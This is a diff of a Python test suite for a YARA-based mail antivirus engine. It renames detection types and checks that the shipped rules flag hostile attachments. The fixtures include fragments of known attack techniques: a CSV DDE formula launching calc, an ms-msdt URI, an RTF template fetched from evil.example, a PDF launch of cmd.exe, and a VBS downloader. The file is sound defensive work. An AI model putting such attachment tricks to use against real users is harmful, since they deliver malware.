@@ -15,22 +15,22 @@ from libs.envelope import Temporary
 from libs.mail.message import parse
 from services.antivirus.adapters.yara import YaraEngine
 from services.antivirus.adapters.yara_rules import RuleFiles
-from services.antivirus.domain.budget import Limits
-from services.antivirus.domain.sightings import Kind, Sighting
-from services.antivirus.ports import Item
+from services.antivirus.domain.budget import ArchiveLimits
+from services.antivirus.domain.detections import Detection, DetectionKind
+from services.antivirus.ports import ScanItem
 from tests.specimens import office
 from tests.specimens.antivirus import EICAR, a_message, encrypted_zip, nested_zip, program, tnef, zeros_zip, zipped
 
 MARK = b"the mark of a rule"
 RULE = 'rule marked { strings: $mark = "the mark of a rule" condition: not message and $mark }'
-SEEN = Sighting(Kind.VIRUS, "marked")
+SEEN = Detection(DetectionKind.VIRUS, "marked")
 
 
-def engine_on(directory: Path | None, limits: Limits | None = None) -> YaraEngine:
+def engine_on(directory: Path | None, limits: ArchiveLimits | None = None) -> YaraEngine:
     return YaraEngine(
         "yara",
         RuleFiles(directory),
-        limits=limits or Limits(),
+        limits=limits or ArchiveLimits(),
         threads=2,
         loop_limit_bytes=64 * 1024,
         deadline=timedelta(seconds=60),
@@ -47,8 +47,8 @@ async def engine(tmp_path: Path) -> AsyncIterator[YaraEngine]:
     await made.close()
 
 
-async def seen_by(engine: YaraEngine, raw: bytes) -> list[Sighting]:
-    return list(await engine.scan(Item(raw, parse(raw))))
+async def seen_by(engine: YaraEngine, raw: bytes) -> list[Detection]:
+    return list(await engine.scan(ScanItem(raw, parse(raw))))
 
 
 EVERYWHERE = {
@@ -72,38 +72,50 @@ async def test_rules_see_every_part_decoded_and_what_is_inside(engine: YaraEngin
 
 
 SHIPPED = {
-    "EICAR": (EICAR, "x.com", Kind.VIRUS),
-    "EICAR in a zip": (zipped({"x": EICAR}), "a.zip", Kind.VIRUS),
+    "EICAR": (EICAR, "x.com", DetectionKind.VIRUS),
+    "EICAR in a zip": (zipped({"x": EICAR}), "a.zip", DetectionKind.VIRUS),
     "a program in a page": (
         b"<html><script>var file='" + b64encode(b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0") + b"'</script>",
         "a.html",
-        Kind.DISGUISED,
+        DetectionKind.DISGUISED,
     ),
     "a page that builds a file": (
         b"<script>var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([atob(x)]));"
         b"a.download = 'invoice.zip';a.click()</script>",
         "a.html",
-        Kind.SUSPICIOUS,
+        DetectionKind.SUSPICIOUS,
     ),
     "a script that downloads": (
         b'CreateObject("WScript.Shell"):CreateObject("MSXML2.XMLHTTP"):CreateObject("ADODB.Stream").SaveToFile x',
         "a.vbs",
-        Kind.SUSPICIOUS,
+        DetectionKind.SUSPICIOUS,
     ),
     "a shortcut": (
         b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60 + "PowerShell.exe".encode("utf-16-le"),
         "a.lnk",
-        Kind.DISGUISED,
+        DetectionKind.DISGUISED,
     ),
-    "an RTF that loads an object": (rb"{\rtf1{\object\objupdate{\*\objdata 0105}}}", "a.rtf", Kind.OFFICE_LINK),
+    "an RTF that loads an object": (
+        rb"{\rtf1{\object\objupdate{\*\objdata 0105}}}",
+        "a.rtf",
+        DetectionKind.OFFICE_LINK,
+    ),
     "an RTF with a template from elsewhere": (
         rb"{\rtf1{\*\template https://evil.example/t}}",
         "a.rtf",
-        Kind.OFFICE_LINK,
+        DetectionKind.OFFICE_LINK,
     ),
-    "the diagnostic tool": (b"location='ms-msdt:/id PCWDiagnostic IT_BrowseForFile=x'", "a.html", Kind.OFFICE_LINK),
-    "a PDF that starts a program": (b"%PDF-1.7 <</S /Launch /Win <</F (cmd.exe)>>>>", "a.pdf", Kind.SUSPICIOUS),
-    "a table that starts a program": (b"name;=cmd|'/c calc'!A0\r\n", "a.csv", Kind.OFFICE_LINK),
+    "the diagnostic tool": (
+        b"location='ms-msdt:/id PCWDiagnostic IT_BrowseForFile=x'",
+        "a.html",
+        DetectionKind.OFFICE_LINK,
+    ),
+    "a PDF that starts a program": (
+        b"%PDF-1.7 <</S /Launch /Win <</F (cmd.exe)>>>>",
+        "a.pdf",
+        DetectionKind.SUSPICIOUS,
+    ),
+    "a table that starts a program": (b"name;=cmd|'/c calc'!A0\r\n", "a.csv", DetectionKind.OFFICE_LINK),
 }
 HONEST = {
     "a text": a_message(b"Bonjour, le rapport est pret. cmd.exe, powershell and atob( are words.\r\n"),
@@ -117,7 +129,7 @@ HONEST = {
 
 
 @pytest.mark.parametrize(("octets", "name", "kind"), SHIPPED.values(), ids=SHIPPED)
-async def test_the_shipped_rules_hit_what_they_are_for(octets: bytes, name: str, kind: Kind) -> None:
+async def test_the_shipped_rules_hit_what_they_are_for(octets: bytes, name: str, kind: DetectionKind) -> None:
     engine = engine_on(None)
     await engine.probe()
     assert kind in {seen.kind for seen in await seen_by(engine, a_message(attachments={name: octets}))}
@@ -134,7 +146,7 @@ async def test_before_rules_are_read_nothing_is_clean(tmp_path: Path) -> None:
     with pytest.raises(Temporary, match="no directory"):
         await engine.probe()
     with pytest.raises(Temporary, match="no rules"):
-        await engine.scan(Item(b""))
+        await engine.scan(ScanItem(b""))
     await engine.close()
 
 
@@ -145,7 +157,7 @@ async def test_a_changed_file_counts_from_the_next_probe_on(engine: YaraEngine, 
     (tmp_path / "later" / "more.yara").write_text(RULE.replace("marked", "more").replace("the mark", "another mark"))
     after = await engine.probe()
     assert after.version != before.version
-    assert await seen_by(engine, a_message(b"another mark of a rule")) == [Sighting(Kind.VIRUS, "more")]
+    assert await seen_by(engine, a_message(b"another mark of a rule")) == [Detection(DetectionKind.VIRUS, "more")]
     (tmp_path / "marked.yar").unlink()
     await engine.probe()
     assert await seen_by(engine, a_message(MARK)) == []
@@ -199,9 +211,9 @@ async def test_a_rule_says_by_its_meta_what_a_match_is(engine: YaraEngine, tmp_p
     raw = a_message(attachments={"a.scr": MARK}, type="image/png")
     assert set(await seen_by(engine, raw)) == {
         SEEN,
-        Sighting(Kind.SUSPICIOUS, "A name"),
-        Sighting(Kind.VIRUS, "A name"),
-        Sighting(Kind.VIRUS, "named"),
+        Detection(DetectionKind.SUSPICIOUS, "A name"),
+        Detection(DetectionKind.VIRUS, "A name"),
+        Detection(DetectionKind.VIRUS, "named"),
     }
 
 
@@ -210,7 +222,7 @@ SLOW = "rule slow { condition: for all i in (0 .. 1000000000000) : (uint8(i % 10
 
 async def test_a_rule_that_takes_too_long_is_a_finding_and_does_not_keep_the_loop_waiting(tmp_path: Path) -> None:
     (tmp_path / "slow.yar").write_text(SLOW)
-    engine = engine_on(tmp_path, Limits(seconds=0.5))
+    engine = engine_on(tmp_path, ArchiveLimits(seconds=0.5))
     await engine.probe()
     await seen_by(engine, a_message())  # once, so that it is known to be slow
     scan = asyncio.create_task(seen_by(engine, a_message()))
@@ -218,7 +230,7 @@ async def test_a_rule_that_takes_too_long_is_a_finding_and_does_not_keep_the_loo
     while not scan.done():
         await asyncio.sleep(0)
         turns += 1
-    assert [seen.kind for seen in await scan] == [Kind.UNSCANNABLE]
+    assert [seen.kind for seen in await scan] == [DetectionKind.UNSCANNABLE]
     assert turns > 100
     await engine.close()
 
@@ -228,11 +240,11 @@ async def test_scans_in_several_threads_keep_apart_what_they_look_at(engine: Yar
     await engine.probe()
     zips = [zipped({("odd" if n % 2 else "even"): bytes(20_000) + b"%d" % n}) for n in range(40)]
     found = await asyncio.gather(*(seen_by(engine, octets) for octets in zips))
-    viruses = [any(one.kind is Kind.VIRUS for one in seen) for seen in found]
+    viruses = [any(one.kind is DetectionKind.VIRUS for one in seen) for seen in found]
     assert viruses == [bool(n % 2) for n in range(40)]
 
 
-async def test_of_many_sightings_enough_are_kept_and_one_of_each_kind(engine: YaraEngine) -> None:
+async def test_of_many_detections_enough_are_kept_and_one_of_each_kind(engine: YaraEngine) -> None:
     files = b"".join(specimen_of_password(n) for n in range(300))
     seen = await seen_by(engine, a_message(attachments={"a.zip": files, "b.bin": MARK}))
     assert len(seen) == 51
@@ -246,14 +258,14 @@ def specimen_of_password(number: int) -> bytes:
 
 async def test_a_bomb_is_a_finding(engine: YaraEngine) -> None:
     raw = a_message(attachments={"a.zip": zeros_zip(2**30), "b.bin": MARK})
-    assert {seen.kind for seen in await seen_by(engine, raw)} == {Kind.ARCHIVE_LIMIT, Kind.VIRUS}
+    assert {seen.kind for seen in await seen_by(engine, raw)} == {DetectionKind.ARCHIVE_LIMIT, DetectionKind.VIRUS}
 
 
 async def test_a_pattern_that_is_found_a_million_times_is_found(engine: YaraEngine, tmp_path: Path) -> None:
     (tmp_path / "many.yar").write_text('rule many { strings: $a = "abcd" condition: #a > 10 }')
     await engine.probe()
     raw = a_message(b"abcd" * 1_200_000)
-    assert Sighting(Kind.VIRUS, "many") in await seen_by(engine, raw)
+    assert Detection(DetectionKind.VIRUS, "many") in await seen_by(engine, raw)
 
 
 async def test_scans_go_on_while_rules_change(engine: YaraEngine, tmp_path: Path) -> None:
